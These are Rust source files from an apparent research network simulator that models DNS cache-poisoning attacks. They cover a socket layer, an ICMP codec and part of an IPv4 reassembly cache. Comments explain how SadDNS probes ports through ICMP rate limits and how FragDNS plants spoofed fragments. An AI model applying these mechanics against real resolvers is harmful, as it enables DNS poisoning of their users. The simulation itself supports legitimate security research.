//! ```
//! use netsim::prelude::*;
//! use rand::SeedableRng;
//! use rand_chacha::ChaCha20Rng;
//!
//! let (a_addr, b_addr): (Ipv4Addr, Ipv4Addr) = ("10.0.0.1".parse().unwrap(), "10.0.0.2".parse().unwrap());
//! let mut rng = ChaCha20Rng::seed_from_u64(7);
//! let mut a = HostStack::with_defaults(vec![a_addr]);
//! let mut b = HostStack::with_defaults(vec![b_addr]);
//!
//! // Bind a TCP client on host A and a TCP listener on host B.
//! let mut client: Box<dyn Socket> = TcpTransport::client().bind(&mut a, 40000);
//! let mut server: Box<dyn Socket> = TcpTransport::listener().bind(&mut b, 80);
//!
//! // A sends a request: the socket opens the connection (SYN first).
//! let mut wire = {
//!     let mut io = StackIo::new(&mut a, SimTime::ZERO, &mut rng);
//!     client.send_to(&mut io, Endpoint::new(b_addr, 80), b"GET /index");
//!     io.out
//! };
//!
//! // Shuttle packets between the two stacks until the network is quiet.
//! let mut request = Vec::new();
//! while let Some(pkt) = wire.pop() {
//!     let (stack, sock) = if pkt.header.dst == a_addr { (&mut a, &mut client) } else { (&mut b, &mut server) };
//!     let events = stack.handle_packet(&pkt, SimTime::ZERO, &mut rng).events;
//!     let mut io = StackIo::new(stack, SimTime::ZERO, &mut rng);
//!     for event in &events {
//!         for se in sock.handle(&mut io, event) {
//!             if let SocketEvent::Data { payload, .. } = se {
//!                 request.extend_from_slice(&payload);
//!             }
//!         }
//!     }
//!     wire.extend(io.out);
//! }
//!
//! // The three-way handshake completed and the stream bytes arrived intact.
//! assert_eq!(request, b"GET /index");
//! assert_eq!(server.flows()[0].state, "established");
//! assert_eq!(server.flows()[0].bytes_received, 10);
//! ```

use crate::ipv4::{Ipv4Packet, Protocol};
use crate::stack::{HostStack, StackEvent};
use crate::tcp::TcpSegment;
use crate::time::SimTime;
use crate::udp::UdpDatagram;
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;

/// A transport endpoint: an IPv4 address and a port.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Endpoint {
    /// IPv4 address.
    pub addr: Ipv4Addr,
    /// Transport port.
    pub port: u16,
}

impl Endpoint {
    /// Creates an endpoint.
    pub fn new(addr: Ipv4Addr, port: u16) -> Self {
        Endpoint { addr, port }
    }
}

impl fmt::Display for Endpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.addr, self.port)
    }
}

/// Events a [`Socket`] surfaces to the application layer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SocketEvent {
    /// Application payload arrived from `peer`: one datagram's payload for
    /// UDP, one in-order chunk of stream bytes for TCP (the application owns
    /// any record framing, e.g. the RFC 1035 two-byte length prefix).
    Data {
        /// Remote endpoint.
        peer: Endpoint,
        /// Local endpoint the payload was addressed to.
        local: Endpoint,
        /// The payload bytes.
        payload: Vec<u8>,
    },
    /// A TCP three-way handshake completed (either direction).
    Connected {
        /// Remote endpoint.
        peer: Endpoint,
        /// Local endpoint of the connection.
        local: Endpoint,
    },
    /// The TCP peer closed its sending direction (FIN received).
    PeerClosed {
        /// Remote endpoint.
        peer: Endpoint,
        /// Local endpoint of the connection.
        local: Endpoint,
    },
    /// The TCP connection was reset.
    Reset {
        /// Remote endpoint.
        peer: Endpoint,
        /// Local endpoint of the connection.
        local: Endpoint,
    },
}

/// Per-flow transport statistics reported by [`Socket::flows`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FlowStats {
    /// Transport protocol of the flow.
    pub protocol: Protocol,
    /// Local endpoint.
    pub local: Endpoint,
    /// Remote endpoint.
    pub peer: Endpoint,
    /// Connection state name (`"established"`, `"fin-wait-1"`, ...).
    pub state: &'static str,
    /// Application bytes sent on this flow.
    pub bytes_sent: u64,
    /// Application bytes received on this flow.
    pub bytes_received: u64,
}

/// Everything a socket needs from its host to turn payloads into packets:
/// the host stack (IP-ID allocation, path-MTU cache, fragmentation), the
/// simulated clock, the simulation's seeded RNG (initial sequence numbers,
/// random IP-IDs) and the queue of packets produced by the call.
pub struct StackIo<'a> {
    /// The host's network stack.
    pub stack: &'a mut HostStack,
    /// Current simulated time.
    pub now: SimTime,
    /// The deterministic per-simulation RNG.
    pub rng: &'a mut ChaCha20Rng,
    /// Packets produced (to be transmitted by the caller, e.g. via
    /// [`Ctx::send`](crate::engine::Ctx::send)).
    pub out: Vec<Ipv4Packet>,
}

impl<'a> StackIo<'a> {
    /// Creates an IO bundle over a host stack.
    pub fn new(stack: &'a mut HostStack, now: SimTime, rng: &'a mut ChaCha20Rng) -> Self {
        StackIo { stack, now, rng, out: Vec::new() }
    }

    /// Builds (and, path MTU permitting, fragments) a UDP datagram and
    /// queues the resulting packets.
    pub fn send_udp(&mut self, dgram: UdpDatagram) {
        let pkts = self.stack.send_udp(dgram, self.now, self.rng);
        self.out.extend(pkts);
    }

    /// Builds a TCP segment packet (DF set, IP-ID per host policy) and
    /// queues it.
    pub fn send_tcp(&mut self, seg: TcpSegment) {
        let pkt = self.stack.send_tcp(seg, self.now, self.rng);
        self.out.push(pkt);
    }
}

/// Runs `f` with a [`StackIo`] over `stack` and transmits every packet it
/// produced through the node's [`Ctx`](crate::engine::Ctx) — the one
/// socket-dispatch idiom every node shares (build IO, run the socket call,
/// send `io.out`), expressed once.
///
/// ```ignore
/// let events = with_io(&mut self.stack, ctx, |io| self.sock.handle(io, &event));
/// ```
pub fn with_io<R>(stack: &mut HostStack, ctx: &mut crate::engine::Ctx<'_>, f: impl FnOnce(&mut StackIo<'_>) -> R) -> R {
    let now = ctx.now();
    let (result, out) = {
        let mut io = StackIo::new(stack, now, ctx.rng());
        let result = f(&mut io);
        (result, io.out)
    };
    for pkt in out {
        ctx.send(pkt);
    }
    result
}

/// An object-safe, transport-agnostic socket bound to one local port.
///
/// Implementations: [`UdpSocket`] (datagrams) and
/// [`TcpSocket`](crate::tcp::TcpSocket) (connections). Applications hold
/// `Box<dyn Socket>` so the transport can be swapped without touching the
/// protocol logic — this is what lets the DNS resolver re-query over TCP
/// when a UDP answer comes back truncated (RFC 7766).
pub trait Socket {
    /// Transport protocol spoken by this socket.
    fn protocol(&self) -> Protocol;

    /// The bound local port.
    fn local_port(&self) -> u16;

    /// Sends `payload` towards `peer`: one datagram for UDP; for TCP the
    /// socket opens (or reuses) a connection to the peer, running the
    /// handshake first and segmenting the bytes to the connection's MSS.
    fn send_to(&mut self, io: &mut StackIo<'_>, peer: Endpoint, payload: &[u8]);

    /// Feeds one host-stack event through the socket, producing zero or more
    /// application-level [`SocketEvent`]s (and possibly reply packets into
    /// `io.out` — ACKs, handshake steps).
    fn handle(&mut self, io: &mut StackIo<'_>, event: &StackEvent) -> Vec<SocketEvent>;

    /// Actively closes the flow towards `peer` (TCP: FIN; UDP: no-op).
    fn close_peer(&mut self, io: &mut StackIo<'_>, peer: Endpoint);

    /// Aborts the flow towards `peer` (TCP: RST and drop the connection, the
    /// SO_LINGER-zero behaviour a resolver uses before retrying a dead
    /// upstream connection; UDP: no-op).
    fn abort_peer(&mut self, io: &mut StackIo<'_>, peer: Endpoint) {
        let _ = (io, peer);
    }

    /// Per-flow statistics (TCP connections; empty for UDP).
    fn flows(&self) -> Vec<FlowStats>;
}

/// The datagram implementation of [`Socket`]: stateless, one event per
/// datagram, no flows.
#[derive(Debug, Clone)]
pub struct UdpSocket {
    port: u16,
}

impl UdpSocket {
    /// A UDP socket bound to `port`.
    pub fn new(port: u16) -> Self {
        UdpSocket { port }
    }
}

impl Socket for UdpSocket {
    fn protocol(&self) -> Protocol {
        Protocol::Udp
    }

    fn local_port(&self) -> u16 {
        self.port
    }

    fn send_to(&mut self, io: &mut StackIo<'_>, peer: Endpoint, payload: &[u8]) {
        let src = io.stack.primary_addr();
        io.send_udp(UdpDatagram::new(src, peer.addr, self.port, peer.port, payload.to_vec()));
    }

    fn handle(&mut self, _io: &mut StackIo<'_>, event: &StackEvent) -> Vec<SocketEvent> {
        match event {
            StackEvent::Udp(dgram) if dgram.dst_port == self.port => vec![SocketEvent::Data {
                peer: Endpoint::new(dgram.src, dgram.src_port),
                local: Endpoint::new(dgram.dst, dgram.dst_port),
                payload: dgram.payload.clone(),
            }],
            _ => Vec::new(),
        }
    }

    fn close_peer(&mut self, _io: &mut StackIo<'_>, _peer: Endpoint) {}

    fn flows(&self) -> Vec<FlowStats> {
        Vec::new()
    }
}

/// An object-safe factory for sockets of one transport: binds the port on
/// the host stack (so the stack demultiplexes matching packets) and returns
/// the socket.
pub trait Transport {
    /// Transport protocol of the sockets this factory produces.
    fn protocol(&self) -> Protocol;

    /// Binds a socket on `port`.
    fn bind(&self, stack: &mut HostStack, port: u16) -> Box<dyn Socket>;
}

/// Factory for [`UdpSocket`]s.
#[derive(Debug, Clone, Copy, Default)]
pub struct UdpTransport;

impl Transport for UdpTransport {
    fn protocol(&self) -> Protocol {
        Protocol::Udp
    }

    fn bind(&self, stack: &mut HostStack, port: u16) -> Box<dyn Socket> {
        stack.open_port(port);
        Box::new(UdpSocket::new(port))
    }
}

/// Factory for [`TcpSocket`](crate::tcp::TcpSocket)s.
#[derive(Debug, Clone, Copy)]
pub struct TcpTransport {
    listening: bool,
}

impl TcpTransport {
    /// Sockets that open outgoing connections only.
    pub fn client() -> Self {
        TcpTransport { listening: false }
    }

    /// Sockets that accept incoming connections.
    pub fn listener() -> Self {
        TcpTransport { listening: true }
    }
}

impl Transport for TcpTransport {
    fn protocol(&self) -> Protocol {
        Protocol::Tcp
    }

    fn bind(&self, stack: &mut HostStack, port: u16) -> Box<dyn Socket> {
        stack.open_tcp_port(port);
        if self.listening {
            Box::new(crate::tcp::TcpSocket::listener(port))
        } else {
            Box::new(crate::tcp::TcpSocket::client(port))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    fn rng() -> ChaCha20Rng {
        ChaCha20Rng::seed_from_u64(1)
    }

    #[test]
    fn udp_socket_roundtrip_through_stacks() {
        let mut rng = rng();
        let mut a = HostStack::with_defaults(vec![A]);
        let mut b = HostStack::with_defaults(vec![B]);
        let mut sender: Box<dyn Socket> = UdpTransport.bind(&mut a, 1111);
        let mut receiver: Box<dyn Socket> = UdpTransport.bind(&mut b, 2222);
        assert_eq!(sender.protocol(), Protocol::Udp);
        assert_eq!(receiver.local_port(), 2222);

        let out = {
            let mut io = StackIo::new(&mut a, SimTime::ZERO, &mut rng);
            sender.send_to(&mut io, Endpoint::new(B, 2222), b"ping");
            io.out
        };
        assert_eq!(out.len(), 1);
        let events = b.handle_packet(&out[0], SimTime::ZERO, &mut rng).events;
        let mut io = StackIo::new(&mut b, SimTime::ZERO, &mut rng);
        let socket_events: Vec<SocketEvent> = events.iter().flat_map(|e| receiver.handle(&mut io, e)).collect();
        assert_eq!(
            socket_events,
            vec![SocketEvent::Data {
                peer: Endpoint::new(A, 1111),
                local: Endpoint::new(B, 2222),
                payload: b"ping".to_vec(),
            }]
        );
        assert!(receiver.flows().is_empty());
    }

    /// Runs the doctest scenario as a unit test so failures localise here.
    #[test]
    fn tcp_sockets_complete_a_full_exchange_between_stacks() {
        let mut rng = rng();
        let mut a = HostStack::with_defaults(vec![A]);
        let mut b = HostStack::with_defaults(vec![B]);
        let mut client: Box<dyn Socket> = TcpTransport::client().bind(&mut a, 40000);
        let mut server: Box<dyn Socket> = TcpTransport::listener().bind(&mut b, 80);

        let mut wire = {
            let mut io = StackIo::new(&mut a, SimTime::ZERO, &mut rng);
            client.send_to(&mut io, Endpoint::new(B, 80), b"hello over tcp");
            io.out
        };
        let mut received = Vec::new();
        let mut guard = 0;
        while let Some(pkt) = wire.pop() {
            guard += 1;
            assert!(guard < 64, "exchange did not quiesce");
            let (stack, sock) = if pkt.header.dst == A { (&mut a, &mut client) } else { (&mut b, &mut server) };
            let events = stack.handle_packet(&pkt, SimTime::ZERO, &mut rng).events;
            let mut io = StackIo::new(stack, SimTime::ZERO, &mut rng);
            for event in &events {
                for se in sock.handle(&mut io, event) {
                    if let SocketEvent::Data { payload, .. } = se {
                        received.extend_from_slice(&payload);
                    }
                }
            }
            wire.extend(io.out);
        }
        assert_eq!(received, b"hello over tcp");
        assert_eq!(client.flows().len(), 1);
        assert_eq!(client.flows()[0].state, "established");
        assert_eq!(client.flows()[0].bytes_sent, 14);
        assert_eq!(server.flows()[0].bytes_received, 14);
    }
}
