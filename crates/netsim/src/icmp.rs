//! ICMP messages used by the attacks.
//!
//! Three ICMP behaviours are central to the paper:
//!
//! * **Destination Unreachable / Port Unreachable** (type 3, code 3): the
//!   SadDNS side channel counts how many of these a resolver host emits under
//!   its global rate limit to learn whether a probed UDP port is open.
//! * **Destination Unreachable / Fragmentation Needed** (type 3, code 4,
//!   a.k.a. "packet too big"): the FragDNS attacker spoofs this towards the
//!   nameserver to shrink its path MTU so that DNS responses fragment.
//! * **Echo request/reply**: used by the measurement tooling to check that a
//!   resolver back-end is still alive before testing it (Section 5.1.2).

use crate::checksum;
use crate::ipv4::{Ipv4Header, Ipv4Packet, Protocol, IPV4_HEADER_LEN};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;

/// Destination-unreachable sub-codes relevant to the attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Unreachable {
    /// Code 0: network unreachable.
    Network,
    /// Code 1: host unreachable.
    Host,
    /// Code 3: port unreachable (the SadDNS probe response).
    Port,
    /// Code 4: fragmentation needed and DF set; carries the next-hop MTU.
    FragmentationNeeded {
        /// Next-hop MTU advertised to the sender.
        mtu: u16,
    },
}

impl Unreachable {
    fn code(self) -> u8 {
        match self {
            Unreachable::Network => 0,
            Unreachable::Host => 1,
            Unreachable::Port => 3,
            Unreachable::FragmentationNeeded { .. } => 4,
        }
    }
}

/// A decoded ICMP message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum IcmpMessage {
    /// Echo request (type 8).
    EchoRequest {
        /// Identifier copied into the reply.
        id: u16,
        /// Sequence number copied into the reply.
        seq: u16,
        /// Opaque payload echoed back.
        payload: Vec<u8>,
    },
    /// Echo reply (type 0).
    EchoReply {
        /// Identifier from the request.
        id: u16,
        /// Sequence number from the request.
        seq: u16,
        /// Echoed payload.
        payload: Vec<u8>,
    },
    /// Destination unreachable (type 3), quoting the offending datagram.
    DestinationUnreachable {
        /// Which unreachable condition occurred.
        kind: Unreachable,
        /// The quoted IPv4 header + first 8 payload bytes of the datagram
        /// that triggered the error.
        original: Vec<u8>,
    },
}

impl IcmpMessage {
    /// Builds a port-unreachable error quoting the given offending packet.
    pub fn port_unreachable(offending: &Ipv4Packet) -> Self {
        IcmpMessage::DestinationUnreachable { kind: Unreachable::Port, original: quote(offending) }
    }

    /// Builds a fragmentation-needed error advertising `mtu`, quoting the
    /// given offending packet.
    pub fn fragmentation_needed(offending: &Ipv4Packet, mtu: u16) -> Self {
        IcmpMessage::DestinationUnreachable {
            kind: Unreachable::FragmentationNeeded { mtu },
            original: quote(offending),
        }
    }

    /// Encodes the ICMP message (type, code, checksum, rest-of-header, body).
    pub fn encode(&self) -> Vec<u8> {
        let mut buf = Vec::new();
        match self {
            IcmpMessage::EchoRequest { id, seq, payload } | IcmpMessage::EchoReply { id, seq, payload } => {
                let ty = if matches!(self, IcmpMessage::EchoRequest { .. }) { 8 } else { 0 };
                buf.push(ty);
                buf.push(0);
                buf.extend_from_slice(&[0, 0]); // checksum placeholder
                buf.extend_from_slice(&id.to_be_bytes());
                buf.extend_from_slice(&seq.to_be_bytes());
                buf.extend_from_slice(payload);
            }
            IcmpMessage::DestinationUnreachable { kind, original } => {
                buf.push(3);
                buf.push(kind.code());
                buf.extend_from_slice(&[0, 0]); // checksum placeholder
                match kind {
                    Unreachable::FragmentationNeeded { mtu } => {
                        buf.extend_from_slice(&[0, 0]);
                        buf.extend_from_slice(&mtu.to_be_bytes());
                    }
                    _ => buf.extend_from_slice(&[0, 0, 0, 0]),
                }
                buf.extend_from_slice(original);
            }
        }
        let ck = checksum::checksum(&buf);
        buf[2..4].copy_from_slice(&ck.to_be_bytes());
        buf
    }

    /// Decodes an ICMP message, verifying its checksum.
    pub fn decode(buf: &[u8]) -> Result<Self, IcmpError> {
        if buf.len() < 8 {
            return Err(IcmpError::Truncated);
        }
        if !checksum::verify(buf) {
            return Err(IcmpError::BadChecksum);
        }
        let ty = buf[0];
        let code = buf[1];
        match ty {
            0 | 8 => {
                let id = u16::from_be_bytes([buf[4], buf[5]]);
                let seq = u16::from_be_bytes([buf[6], buf[7]]);
                let payload = buf[8..].to_vec();
                Ok(if ty == 8 {
                    IcmpMessage::EchoRequest { id, seq, payload }
                } else {
                    IcmpMessage::EchoReply { id, seq, payload }
                })
            }
            3 => {
                let kind = match code {
                    0 => Unreachable::Network,
                    1 => Unreachable::Host,
                    3 => Unreachable::Port,
                    4 => Unreachable::FragmentationNeeded { mtu: u16::from_be_bytes([buf[6], buf[7]]) },
                    other => return Err(IcmpError::UnknownCode(ty, other)),
                };
                Ok(IcmpMessage::DestinationUnreachable { kind, original: buf[8..].to_vec() })
            }
            other => Err(IcmpError::UnknownType(other)),
        }
    }

    /// Wraps the message in an IPv4 packet.
    pub fn into_packet(self, src: Ipv4Addr, dst: Ipv4Addr, identification: u16, ttl: u8) -> Ipv4Packet {
        let payload = self.encode();
        let header = Ipv4Header::new(src, dst, Protocol::Icmp, payload.len(), identification, ttl);
        Ipv4Packet::new(header, payload)
    }

    /// For destination-unreachable errors: parses the quoted original IPv4
    /// header so the receiver can identify which of its packets triggered the
    /// error (source port demultiplexing for PMTUD and for SadDNS probing).
    pub fn quoted_header(&self) -> Option<Ipv4Header> {
        match self {
            IcmpMessage::DestinationUnreachable { original, .. } => Ipv4Header::decode(original).ok(),
            _ => None,
        }
    }

    /// For destination-unreachable errors quoting a UDP datagram: the quoted
    /// (source port, destination port) pair.
    pub fn quoted_udp_ports(&self) -> Option<(u16, u16)> {
        match self {
            IcmpMessage::DestinationUnreachable { original, .. } => {
                if original.len() < IPV4_HEADER_LEN + 4 {
                    return None;
                }
                let hdr = Ipv4Header::decode(original).ok()?;
                if hdr.protocol != Protocol::Udp {
                    return None;
                }
                let p = &original[IPV4_HEADER_LEN..];
                Some((u16::from_be_bytes([p[0], p[1]]), u16::from_be_bytes([p[2], p[3]])))
            }
            _ => None,
        }
    }

    /// A compact human-readable summary for traces.
    pub fn summary(&self) -> String {
        match self {
            IcmpMessage::EchoRequest { id, seq, .. } => format!("echo-request id={id} seq={seq}"),
            IcmpMessage::EchoReply { id, seq, .. } => format!("echo-reply id={id} seq={seq}"),
            IcmpMessage::DestinationUnreachable { kind, .. } => match kind {
                Unreachable::Port => "dest-unreachable(port)".to_string(),
                Unreachable::FragmentationNeeded { mtu } => format!("frag-needed(mtu={mtu})"),
                Unreachable::Network => "dest-unreachable(net)".to_string(),
                Unreachable::Host => "dest-unreachable(host)".to_string(),
            },
        }
    }
}

/// Quotes an offending datagram for inclusion in an ICMP error: the full IP
/// header plus the first 8 payload bytes (RFC 792).
fn quote(pkt: &Ipv4Packet) -> Vec<u8> {
    let mut out = Vec::with_capacity(IPV4_HEADER_LEN + 8);
    out.extend_from_slice(&pkt.header.encode());
    let n = pkt.payload.len().min(8);
    out.extend_from_slice(&pkt.payload[..n]);
    out
}

/// Errors returned by the ICMP codec.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IcmpError {
    /// Buffer shorter than the 8-byte ICMP header.
    Truncated,
    /// The ICMP checksum does not verify.
    BadChecksum,
    /// Unsupported ICMP type.
    UnknownType(u8),
    /// Unsupported code for a known type.
    UnknownCode(u8, u8),
}

impl fmt::Display for IcmpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            IcmpError::Truncated => write!(f, "truncated ICMP message"),
            IcmpError::BadChecksum => write!(f, "bad ICMP checksum"),
            IcmpError::UnknownType(t) => write!(f, "unknown ICMP type {t}"),
            IcmpError::UnknownCode(t, c) => write!(f, "unknown ICMP code {c} for type {t}"),
        }
    }
}

impl std::error::Error for IcmpError {}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::udp::UdpDatagram;

    fn sample_udp_packet() -> Ipv4Packet {
        UdpDatagram::new("192.0.2.1".parse().unwrap(), "203.0.113.7".parse().unwrap(), 40000, 53, b"query".to_vec())
            .into_packet(7, 64)
    }

    #[test]
    fn echo_roundtrip() {
        let msg = IcmpMessage::EchoRequest { id: 77, seq: 3, payload: b"ping".to_vec() };
        let decoded = IcmpMessage::decode(&msg.encode()).unwrap();
        assert_eq!(decoded, msg);
    }

    #[test]
    fn port_unreachable_roundtrip_and_ports() {
        let offending = sample_udp_packet();
        let msg = IcmpMessage::port_unreachable(&offending);
        let decoded = IcmpMessage::decode(&msg.encode()).unwrap();
        assert_eq!(decoded.quoted_udp_ports(), Some((40000, 53)));
        let hdr = decoded.quoted_header().unwrap();
        assert_eq!(hdr.dst, offending.header.dst);
    }

    #[test]
    fn fragmentation_needed_carries_mtu() {
        let offending = sample_udp_packet();
        let msg = IcmpMessage::fragmentation_needed(&offending, 68);
        match IcmpMessage::decode(&msg.encode()).unwrap() {
            IcmpMessage::DestinationUnreachable { kind: Unreachable::FragmentationNeeded { mtu }, .. } => {
                assert_eq!(mtu, 68)
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn corrupted_message_rejected() {
        let msg = IcmpMessage::EchoReply { id: 1, seq: 1, payload: vec![1, 2, 3] };
        let mut bytes = msg.encode();
        bytes[5] ^= 0xff;
        assert_eq!(IcmpMessage::decode(&bytes), Err(IcmpError::BadChecksum));
    }

    #[test]
    fn unknown_type_rejected() {
        let mut buf = vec![13u8, 0, 0, 0, 0, 0, 0, 0];
        let ck = checksum::checksum(&buf);
        buf[2..4].copy_from_slice(&ck.to_be_bytes());
        assert_eq!(IcmpMessage::decode(&buf), Err(IcmpError::UnknownType(13)));
    }

    #[test]
    fn into_packet_sets_protocol() {
        let msg = IcmpMessage::EchoRequest { id: 1, seq: 1, payload: vec![] };
        let pkt = msg.into_packet("10.0.0.1".parse().unwrap(), "10.0.0.2".parse().unwrap(), 5, 64);
        assert_eq!(pkt.header.protocol, Protocol::Icmp);
        let parsed = IcmpMessage::decode(&pkt.payload).unwrap();
        assert!(matches!(parsed, IcmpMessage::EchoRequest { .. }));
    }

    #[test]
    fn quoted_ports_absent_for_echo() {
        let msg = IcmpMessage::EchoRequest { id: 1, seq: 1, payload: vec![] };
        assert_eq!(msg.quoted_udp_ports(), None);
        assert!(msg.quoted_header().is_none());
    }
}
