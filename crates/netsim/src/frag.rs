//! IPv4 fragmentation and the defragmentation cache.
//!
//! FragDNS ("Fragmentation Considered Poisonous", Herzberg & Shulman 2013, as
//! used in Section 3.3 of the paper) works entirely inside this module's
//! domain: the attacker plants spoofed *second* fragments in the victim's
//! defragmentation cache, keyed by a guessed IP identification value, and the
//! genuine *first* fragment of the nameserver's response later reassembles
//! with the attacker's payload instead of the real one. Everything the attack
//! depends on is modelled faithfully:
//!
//! * fragments are keyed by `(src, dst, protocol, identification)`;
//! * the cache holds a bounded number of pending datagrams (64 by default,
//!   mirroring the Linux default the paper uses for its "64 packets to fill
//!   the buffer" worst case);
//! * planted fragments persist until a timeout, so an attacker can pre-load
//!   the cache before triggering the query;
//! * overlap/duplicate policy is configurable (permissive first-wins like
//!   older kernels, or reject like hardened stacks).

use crate::ipv4::{Ipv4Header, Ipv4Packet, IPV4_HEADER_LEN};
use crate::time::{Duration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::btree_map::Entry;
use std::collections::{BTreeMap, HashMap};
use std::net::Ipv4Addr;

/// Splits an IPv4 packet into fragments that fit within `mtu` bytes each.
///
/// All fragments except the last carry payload sizes that are multiples of 8
/// bytes, as required by the fragment-offset encoding. Packets that already
/// fit are returned unchanged. Panics if `mtu` cannot hold the IPv4 header
/// plus at least 8 payload bytes (the protocol minimum of 68 always can).
pub fn fragment_packet(pkt: &Ipv4Packet, mtu: u16) -> Vec<Ipv4Packet> {
    let mtu = usize::from(mtu);
    assert!(mtu >= IPV4_HEADER_LEN + 8, "MTU {mtu} too small to fragment");
    if pkt.wire_len() <= mtu {
        return vec![pkt.clone()];
    }
    let max_payload = (mtu - IPV4_HEADER_LEN) & !7; // round down to multiple of 8
    let mut fragments = Vec::new();
    let total = pkt.payload.len();
    let mut offset = 0usize;
    while offset < total {
        let end = (offset + max_payload).min(total);
        let last = end == total;
        let mut header = pkt.header;
        header.more_fragments = !last || pkt.header.more_fragments;
        header.fragment_offset = pkt.header.fragment_offset + (offset / 8) as u16;
        let frag = Ipv4Packet::new(header, pkt.payload[offset..end].to_vec());
        fragments.push(frag);
        offset = end;
    }
    fragments
}

/// How the reassembler treats a fragment that overlaps data already held for
/// the same datagram.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum OverlapPolicy {
    /// Keep the bytes that arrived first (classic permissive behaviour; this
    /// is what lets a pre-planted spoofed fragment win against the genuine
    /// one that arrives later).
    FirstWins,
    /// Drop the whole pending datagram when an overlapping or duplicate
    /// fragment arrives (hardened behaviour, RFC 9099-style).
    Reject,
}

/// Configuration of a [`ReassemblyBuffer`].
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct ReassemblyConfig {
    /// Maximum number of datagrams concurrently pending reassembly.
    pub max_pending: usize,
    /// Maximum bytes of a reassembled datagram (larger ones are dropped).
    pub max_datagram_size: usize,
    /// How long fragments wait for their siblings before being discarded.
    pub timeout: Duration,
    /// Overlap handling policy.
    pub overlap: OverlapPolicy,
}

impl Default for ReassemblyConfig {
    fn default() -> Self {
        ReassemblyConfig {
            max_pending: 64,
            max_datagram_size: 65_535,
            timeout: Duration::from_secs(30),
            overlap: OverlapPolicy::FirstWins,
        }
    }
}

/// Outcome of offering one fragment to the reassembly buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReassemblyResult {
    /// The datagram is now complete.
    Complete(Ipv4Packet),
    /// The fragment was stored; more fragments are needed.
    Pending,
    /// The fragment was dropped (buffer full, oversize, overlap rejection...).
    Dropped(DropReason),
}

/// Why a fragment was dropped by the reassembler.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DropReason {
    /// The pending-datagram table is full.
    BufferFull,
    /// The reassembled datagram would exceed the size limit.
    TooLarge,
    /// An overlapping fragment arrived under [`OverlapPolicy::Reject`].
    Overlap,
    /// The fragment duplicates data already held (under `FirstWins` this is
    /// only reported, the original data is kept).
    Duplicate,
}

/// Key identifying a datagram under reassembly.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FragKey {
    /// IPv4 source address of the fragments.
    pub src: Ipv4Addr,
    /// IPv4 destination address of the fragments.
    pub dst: Ipv4Addr,
    /// Upper-layer protocol number.
    pub protocol: u8,
    /// IP identification value shared by the fragments.
    pub identification: u16,
}

impl FragKey {
    fn of(pkt: &Ipv4Packet) -> Self {
        FragKey {
            src: pkt.header.src,
            dst: pkt.header.dst,
            protocol: pkt.header.protocol.number(),
            identification: pkt.header.identification,
        }
    }
}

#[derive(Debug, Clone)]
struct PendingDatagram {
    /// Fragment payloads keyed by byte offset.
    fragments: BTreeMap<usize, Vec<u8>>,
    /// Header of the offset-0 fragment (used for the reassembled packet).
    first_header: Option<Ipv4Header>,
    /// Total datagram payload length, known once the final fragment arrives.
    total_len: Option<usize>,
    /// When the first fragment of this datagram arrived.
    created: SimTime,
}

impl PendingDatagram {
    fn new(created: SimTime) -> Self {
        PendingDatagram { fragments: BTreeMap::new(), first_header: None, total_len: None, created }
    }

    fn coverage_complete(&self) -> bool {
        let Some(total) = self.total_len else { return false };
        if self.first_header.is_none() {
            return false;
        }
        let mut covered = 0usize;
        for (&off, data) in &self.fragments {
            if off > covered {
                return false;
            }
            covered = covered.max(off + data.len());
        }
        covered >= total
    }

    fn reassemble(&self, key: FragKey) -> Ipv4Packet {
        let total = self.total_len.expect("complete datagram");
        let mut payload = vec![0u8; total];
        // Apply fragments in reverse arrival-independent order: BTreeMap gives
        // ascending offsets; with FirstWins semantics earlier-arriving bytes
        // were already deduplicated at insert time, so a simple copy works.
        for (&off, data) in &self.fragments {
            let end = (off + data.len()).min(total);
            payload[off..end].copy_from_slice(&data[..end - off]);
        }
        let mut header = self.first_header.expect("first fragment present");
        header.more_fragments = false;
        header.fragment_offset = 0;
        header.identification = key.identification;
        Ipv4Packet::new(header, payload)
    }
}

/// The per-host IPv4 defragmentation cache.
#[derive(Debug, Clone)]
pub struct ReassemblyBuffer {
    config: ReassemblyConfig,
    pending: HashMap<FragKey, PendingDatagram>,
    /// Count of datagrams successfully reassembled.
    pub completed: u64,
    /// Count of fragments dropped.
    pub dropped: u64,
}

impl ReassemblyBuffer {
    /// Creates a buffer with the given configuration.
    pub fn new(config: ReassemblyConfig) -> Self {
        ReassemblyBuffer { config, pending: HashMap::new(), completed: 0, dropped: 0 }
    }

    /// Number of datagrams currently pending.
    pub fn pending_count(&self) -> usize {
        self.pending.len()
    }

    /// Whether a datagram with this key is currently pending — used by tests
    /// and by the FragDNS attacker model to reason about planted fragments.
    pub fn has_pending(&self, src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, identification: u16) -> bool {
        self.pending.contains_key(&FragKey { src, dst, protocol, identification })
    }

    /// Discards pending datagrams older than the configured timeout.
    pub fn expire(&mut self, now: SimTime) {
